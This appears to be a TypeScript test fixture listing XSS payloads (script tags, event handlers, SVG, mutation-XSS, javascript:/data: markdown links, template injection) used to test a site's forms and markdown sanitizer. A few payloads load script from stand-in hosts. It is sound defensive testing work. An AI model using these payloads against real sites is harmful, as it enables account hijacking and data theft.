// XSS payloads stored through the real forms (tests/e2e/journeys/xss.test.ts) and rendered through lib/markdown
// (tests/unit/markdown.test.ts). Each payload that runs would call alert/confirm/prompt (a dialog) or set
// window.__xss (an execution the test can see even if dialogs are blocked). Sources: OWASP's XSS filter
// evasion cheat sheet, PortSwigger's XSS cheat sheet, the mutation-XSS papers (Heiderich et al.) and
// DOMPurify's bypass history, adapted to markdown where a payload only makes sense as a link.
const X = "window.__xss=(window.__xss||0)+1";

export const xssPayloads: string[] = [
  // Script tags and their variants
  `<script>${X};alert(1)</script>`,
  `<SCRIPT SRC=//xss.example/x.js></SCRIPT>`,
  `<script/xss>${X}</script>`,
  `<<script>${X};//<</script>`,
  `<scr<script>ipt>${X}</scr</script>ipt>`,
  `"><script>${X}</script>`,
  `</textarea><script>${X}</script>`,
  `</title><script>${X}</script>`,
  `<script type="module">${X}</script>`,
  // Event handlers
  `<img src=x onerror="${X};alert(1)">`,
  `<IMG SRC=# onmouseover="${X}">`,
  `<body onload=${X}>`,
  `<svg onload=${X}>`,
  `<svg/onload=${X}>`,
  `<details open ontoggle="${X}">`,
  `<input autofocus onfocus="${X}">`,
  `<video><source onerror="${X}"></video>`,
  `<audio src=x onerror=${X}>`,
  `<marquee onstart=${X}>x</marquee>`,
  `<div style="width:expression(${X})">x</div>`,
  `<a href="#" onclick="${X}">click</a>`,
  `<iframe srcdoc="<script>parent.${X}</script>"></iframe>`,
  `<iframe src="javascript:parent.${X}"></iframe>`,
  `<object data="javascript:${X}"></object>`,
  `<embed src="javascript:${X}">`,
  `<form><button formaction="javascript:${X}">x</button></form>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${X}">x</maction></math>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${X}">`,
  `<base href="javascript:${X}//">`,
  `<link rel=import href="data:text/html,<script>${X}</script>">`,
  // SVG
  `<svg><script>${X}</script></svg>`,
  `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${X}"><text x="20" y="20">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>` +
    `<image href='1' onerror='${X}'/></svg>#x"></use></svg>`,
  `<svg><foreignObject><iframe onload="${X}"></iframe></foreignObject></svg>`,
  // Mutation XSS (parser differentials, namespace confusion)
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${X}>">`,
  `<math><mtext><table><mglyph><style><!--</style>` +
    `<img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${X}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${X}>`,
  `<template><style></template><img src=x onerror=${X}></style></template>`,
  `<listing>&lt;img src=1 onerror=${X}&gt;</listing>`,
  `<xmp><img src=x onerror=${X}></xmp>`,
  `<!--><img src=x onerror=${X}>-->`,
  `<?xml version="1.0"?><img src=x onerror=${X}>`,
  // javascript:, data: and vbscript: links, in HTML and in markdown
  `<a href="javascript:${X}">link</a>`,
  `<a href="jav&#x09;ascript:${X}">tab</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${X}">entities</a>`,
  `[markdown link](javascript:${X})`,
  `[upper](JAVASCRIPT:${X})`,
  `[entity](&#106;avascript:${X})`,
  `[tab](java\tscript:${X})`,
  `[spaces]( javascript:${X} )`,
  `[angle](<javascript:${X}>)`,
  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[vbscript](vbscript:msgbox(1))`,
  `[ref link][r]\n\n[r]: javascript:${X}`,
  `<javascript:${X}>`,
  `![img](javascript:${X})`,
  `![img](x" onerror="${X})`,
  `[title](https://example.org "x\\" onmouseover=\\"${X}")`,
  `[proto](//evil.example/x)`,
  // Attribute and text-context breakouts
  `"><img src=x onerror=${X}>`,
  `'"><svg/onload=${X}>`,
  `\`\`\`\n</code></pre><script>${X}</script>\n\`\`\``,
  `\`<img src=x onerror=${X}>\``,
  `**<img src=x onerror=${X}>**`,
  `> <script>${X}</script>`,
  `- <iframe src=javascript:${X}>`,
  `{{constructor.constructor('${X}')()}}`,
];

/** Several payloads in one stored field (each on its own paragraph), so a few saves cover the corpus. */
export function batches(size: number, max: number): string[] {
  const out: string[] = [];
  let current = "";
  for (const payload of xssPayloads) {
    const next = current ? `${current}\n\n${payload}` : payload;
    if (next.length > max || (current && current.split("\n\n").length >= size)) {
      out.push(current);
      current = payload;
    } else {
      current = next;
    }
  }
  if (current) out.push(current);
  return out;
}
